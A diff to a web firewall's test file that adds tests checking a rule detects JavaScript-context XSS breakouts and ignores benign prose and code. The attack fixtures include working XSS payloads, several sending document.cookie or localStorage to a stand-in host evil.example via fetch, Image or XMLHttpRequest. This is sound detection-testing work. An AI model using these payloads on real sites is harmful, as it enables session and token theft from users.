@@ -165,6 +165,8 @@ test('linear time on 64 KiB pathological input', () => {
     '<code ', '<code a', '</div', '<!', '<!-', '<?', '<x xmlns', '<x x', 'xmlns:a=', 'xmlns:', '<img[a]', '<img[a', '<a[',
     '<scr&#x9;', '<s&#', '<i\t', 'document.', 'window.a', '.a', '$(', '$("', '$.a', 'jQuery(', 'function(', 'function f(a,',
     'function', 'List<Object', '<b x="', '<x </', '<x <', 'window.', 'top.document.', '$("$(\'', '<code x', '<x x x',
+    // JS-run look-ahead after breakout quotes and `${`
+    "'+a[", "';x.", "'+", "'\n", '```', "'; confirm (", '${document.', '${a+', "';/*", "'+(", '"+top[', "'+document['",
   ].map(unit);
   for (const s of inputs) {
     const t0 = performance.now();
@@ -201,6 +203,41 @@ test('generalises to vectors written for this test (mXSS, entity-split schemes, 
 test('API and prose text with markup-like characters stays clean', () => {
   const text = ["Terms & Conditions (updated 2024); see section 3(a)", "Q: How do I select all? A: press Ctrl+A", "Error: can't connect to host 'db-1' (timeout)", "Run `SELECT * FROM users` to check", "if (x > 0 && y < 10) { return; }", "O'Reilly & Sons; 'Best-sellers' -- 2024 edition", "Please don't drop the table; it's fragile", "<3 you", "x => y", "<<EOF", "I'd like 2 or 3 more", "Order by phone: 555-0100", "group by region (EMEA)", "He said: 'union is strength'", "rock'n'roll; select your seat", "user@example.com; admin@example.com", "SELECT-2000 model", "(555) 010-0199", "100 - 20 = 80", "It's 50% off -- today only!", "x-www-form-urlencoded", "Price (USD): 1,299.00", "Dear 'Customer', your order #123 shipped", "on the 'Desktop' or 'Mobile' app", "Use onClick handler in React", "alert: disk almost full (95%)", "confirm your email", "The javascript: protocol is blocked", "See <https://example.com>", "{{user.first_name}}, welcome!", "Hello ${name}", "`code` and ```block```", "1' 2\" tall", "Sort: name asc; limit 10", "where=city eq 'Paris' and active eq true", "filter=status in ('a','b')", "q=title:\"hello world\" OR tags:news", "--verbose --output=json", "#hashtag #another", "/* not a comment */ really", "100%; drop", "data:image/png;base64,iVBORw0KGgo=", "Hi! :-) ;-) <:o)", "a = b; c = d;", "Tom & Jerry's \"best\" episodes (1940-1958)"];
   for (const t of text) assert.deepEqual(fired(t), [], `false positive: ${t}`);
+});
+
+test('941370 JS-context breakouts: any sink or secret read in the statements after the breakout quote', () => {
+  const attacks = [
+    "';new Function('alert(1)')()//", "'+document.cookie+'", "';document['cookie']//", "'+localStorage.token+'",
+    "';x=document.cookie;fetch('//evil.example/'+x)//", "';alert?.(1)//", "'in alert(1)in'", "'instanceof alert(1)instanceof'",
+    "'-(()=>alert(1))()-'", "'-[alert][0](1)-'", "';new Image().src='//evil.example/?'+document.cookie//",
+    "'\nalert(1)//", "'\u2028alert(1)//", "';/**/alert(1)/**/;'", '"}];alert(1);//', "';if(1)alert(1)//",
+    "';new XMLHttpRequest().open('GET','//evil.example/'+document.cookie)//", "\";top.location='//evil.example'//",
+    "'+JSON.stringify(localStorage)+'", "\\';with(document)write(cookie)//", "'};window?.eval(name);{'",
+    '${document.cookie}', "${x=document.cookie,fetch('//evil.example/'+x)}", "${new Image().src='//e.example/'+document.domain}",
+  ];
+  for (const a of attacks) {
+    for (const kind of ['query', 'json'] as const) assert.ok(fired(a, 1, kind).includes('941370'), `missed in ${kind}: ${a}`);
+  }
+});
+
+test('941370 leaves prose quotes and code snippets alone', () => {
+  const benign = [
+    "it's", "l'été", 'O\'Brien\'s "best" deal', "C'est l'heure d'aller à l'école; n'oublie pas", "Dell'Orto's 'racing' carb - new in box",
+    'Ich hab\'s "gemacht" - (fertig)', "'-' separates product codes: AB'-'12", "SKU 'A-100'-'B-200'", "It's 5'11\" tall; weighs 180",
+    "Press 'Enter'; then open the 'Settings' (gear icon)", "'Top 10' - best (of 2024); open(ed) late", "it's 'fine'; print (twice) please",
+    "'in stock' - ships in 2 days", "The 'document.cookie' property holds cookies", "Use 'localStorage' for persistence",
+    "x' = 'y'; setTimeout (30s)", "Mc'Donald's; O'Neil's 'pub' - open (daily)", '«Bonjour» ; „Hallo“ – \'ciao\'',
+    "'; DROP TABLE", 'Typography: ‘single’ and “double” quotes; don’t', "Total: ${price * qty}; tax ${tax}", 'Use ${location} as the city',
+    '${window.location.href} is the current URL', 'Hi ${name}; confirm (your email)',
+    // code snippets (JSON text fields, Markdown)
+    "```js\nconst msg = `Hello ${name}`;\nconsole.log(msg);\n```", 'const value = `; ${document.cookie}`;',
+    "function getCookie(name) {\n  const value = `; ${document.cookie}`;\n  return value.split(`; ${name}=`).pop();\n}",
+    'document.cookie = "name=" + value + "; path=/";', 'let s = "" + document.cookie;', "el.innerHTML = '<b>' + document.cookie + '</b>';",
+    "x = '' + localStorage.getItem('k')", "$('#btn').on('click', function() { alert('hi'); });", "localStorage.setItem('theme', 'dark'); location.reload();",
+    'const url = `/api/${id}`; fetch(url).then(r => r.json());', "if (!confirm('Delete?')) return; fetch('/items/' + id, {method: 'DELETE'})",
+    "str.split(', ').map(s => s.trim()).join('; ')", "\"use strict\"; window.onload = init;", "'use strict';\nmodule.exports = function () {};",
+  ];
+  for (const b of benign) assert.ok(!fired(b, 1, 'json').includes('941370'), `false positive: ${b}`);
 });
 
 test('through the engine: markup blocks in the query and form body at PL1, HTML in a JSON body only scores at PL2', () => {
